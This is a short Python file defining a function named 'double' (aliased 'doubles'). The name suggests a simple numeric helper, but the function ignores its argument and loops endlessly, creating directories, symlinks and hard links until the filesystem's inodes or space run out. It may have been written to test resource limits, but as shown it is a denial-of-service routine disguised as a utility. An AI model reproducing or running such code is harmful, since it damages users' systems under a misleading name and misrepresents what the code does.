import os


def double(n):
    at = 0
    while True:
        os.mkdir(f"d{at}")
        os.symlink("x" * 200, f"l{at}")
        os.link(f"l{at}", f"h{at}", follow_symlinks=False)
        at += 1


doubles = double
